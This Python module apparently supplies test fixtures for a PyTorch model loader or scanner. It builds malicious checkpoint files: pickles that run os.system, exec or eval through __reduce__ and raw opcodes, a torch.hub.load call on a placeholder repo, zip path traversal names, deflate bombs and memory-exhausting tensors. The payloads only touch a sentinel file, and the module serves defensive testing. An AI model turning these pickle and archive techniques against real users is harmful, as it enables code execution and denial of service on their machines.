"""PyTorch's own files: pickles that run code, archives and tensors that are not what they seem."""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import torch

SENTINEL = "UNNOISE_HOSTILE"  # the environment's name of the file that code would write
RUN = f"open(__import__('os').environ['{SENTINEL}'], 'w').close()"
TOUCH = f'touch "${SENTINEL}"'


class Reduced:
    """A pickle of it calls a function."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def archive(path: Path, body: bytes, extra: dict[str, bytes] | None = None, compress: int = zipfile.ZIP_STORED) -> Path:
    """An archive as torch writes it, around a pickle."""
    with zipfile.ZipFile(path, "w", compress) as file:
        file.writestr("archive/data.pkl", body)
        file.writestr("archive/byteorder", "little")
        for name, values in (extra or {"archive/data/0": bytes(64)}).items():
            file.writestr(name, values)
        file.writestr("archive/version", "3\n")
    return path


def ops(code: bytes) -> Callable[[Path], Path]:
    return lambda folder: archive(folder / "model.pt", b"\x80\x02" + code)


def dumped(value: object, protocol: int = 2) -> Callable[[Path], Path]:
    return lambda folder: archive(folder / "model.pt", pickle.dumps(value, protocol))


def raw(name: str, value: object) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(pickle.dumps(value, 2))
        return folder / name

    return make


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def nested_load(folder: Path) -> Path:
    """torch.storage._load_from_bytes reads its argument as another file, and not of weights alone."""
    buffer = io.BytesIO()
    torch.save(Reduced(os.system, TOUCH), buffer)
    return archive(folder / "model.pt", pickle.dumps(Reduced(torch.storage._load_from_bytes, buffer.getvalue()), 2))


CODE = {
    "reduce os.system": dumped(Reduced(os.system, TOUCH)),
    "reduce eval": dumped(Reduced(eval, RUN)),
    "reduce exec": dumped(Reduced(exec, RUN)),
    "reduce behind tensors": dumped(OrderedDict(weight=[1, 2], more=Reduced(exec, RUN))),
    "reduce in a key": dumped([(Reduced(exec, RUN), 1)]),
    "stack global, protocol 4": dumped(Reduced(exec, RUN), 4),
    "protocol 5": dumped(Reduced(eval, RUN), 5),
    "global and build": ops(b"cbuiltins\nexec\n" + text(RUN) + b"\x85R}b."),
    "inst": ops(b"(" + text(TOUCH) + b"ios\nsystem\n."),
    "obj": ops(b"(cos\nsystem\n" + text(TOUCH) + b"o."),
    "newobj": ops(b"cos\nsystem\n" + text(TOUCH) + b"\x85\x81."),
    "extension": ops(b"\x82\x01" + text(TOUCH) + b"\x85R."),
    "memo and getattr": ops(
        b"cbuiltins\ngetattr\nq\x00h\x00(cbuiltins\n__import__\n" + text("os") + b"\x85R" + text("system") + b"tR"
        + text(TOUCH) + b"\x85R."
    ),
    "import by a name": ops(b"chostile_module\nthing\n."),
    "a name with dots": ops(b"ctorch\nserialization.os.system\n" + text(TOUCH) + b"\x85R."),
    "torch.hub": ops(b"ctorch.hub\nload\n" + text("someone/something") + text("model") + b"\x86R."),
    "a file in the file": nested_load,
    "raw pickle": raw("model.pt", Reduced(os.system, TOUCH)),
    "raw pickle, .pth": raw("model.pth", Reduced(exec, RUN)),
    "raw pickle, .ckpt": raw("model.ckpt", Reduced(exec, RUN)),
    "pickle of a program": raw("edm.pkl", Reduced(exec, RUN)),
    "an object of a class": dumped(Path("x")),
}  # fmt: skip


def script(folder: Path) -> Path:
    """As torch.jit.save writes it: a program beside its constants."""
    more = {"archive/code/__torch__.py": RUN.encode(), "archive/constants.pkl": b"\x80\x02).", "archive/data/0": bytes(64)}
    return archive(folder / "model.pt", pickle.dumps({}, 2), more)


def overlapping(folder: Path) -> Path:
    path = saved({"a": torch.ones(64), "b": torch.ones(64)})(folder)
    data = bytearray(path.read_bytes())
    first = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 1)  # the second entry's place, set upon the first's
    data[first + 42 : first + 46] = struct.pack("<I", 0)
    path.write_bytes(data)
    return path


def bomb(name: str) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        more = {"archive/data/0": bytes(200 << 20)} if name == "data" else {"archive/data/0": bytes(8)}
        body = pickle.dumps({}, 2) if name == "data" else bytes(200 << 20)
        return archive(folder / "model.pt", body, more, zipfile.ZIP_DEFLATED)

    return make


def named(*names: str) -> Callable[[Path], Path]:
    return lambda folder: archive(folder / "model.pt", pickle.dumps({}, 2), dict.fromkeys(names, bytes(64)))


def twice(folder: Path) -> Path:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(folder / "model.pt", "w") as file:
            for _ in range(2):
                file.writestr("archive/data.pkl", pickle.dumps({}, 2))
    return folder / "model.pt"


def directory(folder: Path) -> Path:
    """A table of contents that is larger than memory, by its own word."""
    path = saved({"a": torch.ones(4)})(folder)
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 12 : end + 16] = struct.pack("<I", 0xF0000000)
    path.write_bytes(data)
    return path


def many_entries(folder: Path) -> Path:
    names = {f"archive/data/{number}": b"" for number in range(30_000)}
    return archive(folder / "model.pt", pickle.dumps({}, 2), names)


def cut(share: float) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = saved({"a": torch.ones(256)})(folder)
        path.write_bytes(path.read_bytes()[: int(share * path.stat().st_size)])
        return path

    return make


def saved(state: object) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        torch.save(state, folder / "model.pt")
        return folder / "model.pt"

    return make


def long_steps(folder: Path) -> Path:
    return archive(folder / "model.pt", b"\x80\x02" + b"]" * (1 << 20) + b".")


def dictionaries(folder: Path) -> Path:
    """One list that fills a thousand dictionaries: gigabytes from a small file."""
    pairs = b"](" + b"".join(b"K" + bytes([i % 256]) + text(str(i)) + b"\x86" for i in range(20_000)) + b"eq\x01"
    grow = b"ccollections\nOrderedDict\nq\x02h\x01\x85R" + b"h\x02h\x01\x85R" * 2_000
    return archive(folder / "model.pt", b"\x80\x02" + pairs + grow + b".")


def storage(numel: int, size: str, stride: str, offset: int = 0) -> bytes:
    """A pickle of one tensor upon a storage of so many values."""
    place = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"J" + struct.pack("<i", numel) + b"tQ"
    put = b"J" + struct.pack("<i", offset) + size.encode() + stride.encode()
    rebuild = b"ctorch._utils\n_rebuild_tensor_v2\n(" + place + put + b"\x89ccollections\nOrderedDict\n)Rt" + b"R"
    return b"\x80\x02}" + text("weight") + rebuild + b"s."


def strided(numel: int, size: str, stride: str, offset: int = 0) -> Callable[[Path], Path]:
    return lambda folder: archive(folder / "model.pt", storage(numel, size, stride, offset), {"archive/data/0": bytes(64)})


BILLION = "J" + struct.pack("<i", 10**9).decode("latin-1")


def huge(folder: Path) -> Path:
    """10^9 places upon one value."""
    size = b"J" + struct.pack("<i", 10**9) + b"\x85"
    body = storage(16, "SIZE", "K\x00\x85").replace(b"SIZE", size)
    return archive(folder / "model.pt", body, {"archive/data/0": bytes(64)})


def views(folder: Path) -> Path:
    whole = torch.randn(64)
    return saved({"a": whole[:40], "b": whole[20:]})(folder)


TRICKS = {
    "TorchScript": script,
    "deflate bomb, values": bomb("data"),
    "deflate bomb, pickle": bomb("pickle"),
    "entries upon each other": overlapping,
    "name ../": named("archive/data/../../../escape"),
    "name /": named("/etc/escape"),
    "name with a backslash": named("archive\\data\\0"),
    "an entry twice": twice,
    "two pickles": named("other/data.pkl"),
    "30,000 entries": many_entries,
    "a table of contents of 4 GB": directory,
    "half a file": cut(0.5),
    "without its end": cut(0.97),
    "a million steps": long_steps,
    "dictionaries of dictionaries": dictionaries,
    "strides of 0": huge,
    "strides that repeat": strided(16, "K\x04K\x04\x86", "K\x01K\x01\x86"),
    "more than its storage": strided(16, "K\xc8\x85".encode("latin-1").decode("latin-1"), "K\x01\x85"),
    "an offset beyond": strided(16, "K\x04\x85", "K\x01\x85", 1 << 20),
    "two tensors in one storage": views,
    "the same tensor twice": lambda folder: saved(dict.fromkeys(("a", "b"), torch.ones(9)))(folder),
    "NaN": saved({"a": torch.tensor([1.0, float("nan")])}),
    "infinity": saved({"a": torch.tensor([1.0, float("inf")], dtype=torch.float16)}),
    "sparse": saved({"a": torch.eye(3).to_sparse()}),
    "no tensors": saved({"a": 3}),
    "empty": saved({}),
}
